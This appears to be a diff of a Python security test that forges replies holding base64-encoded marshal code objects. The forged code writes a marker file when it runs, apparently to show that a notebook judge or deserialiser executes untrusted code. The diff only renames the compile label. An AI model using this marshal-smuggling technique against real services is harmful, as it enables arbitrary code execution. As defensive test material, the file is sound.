@@ -5,7 +5,7 @@ from attack import FORGED_REPLIES, wrong
 PROOF = "packs"
 FORGE = """
 import marshal
-code = compile("open({place!r} + '/ran', 'w').close()\\nmade = 2.0", "<attention-lab>", "exec")
+code = compile("open({place!r} + '/ran', 'w').close()\\nmade = 2.0", "<nbjudge>", "exec")
 made = {{"made": [base64.b64encode(marshal.dumps(code)).decode(), {{"dict": []}}]}}
 answers = [
     dict_of(value=made), dict_of(value={{"list": [made, made]}}),
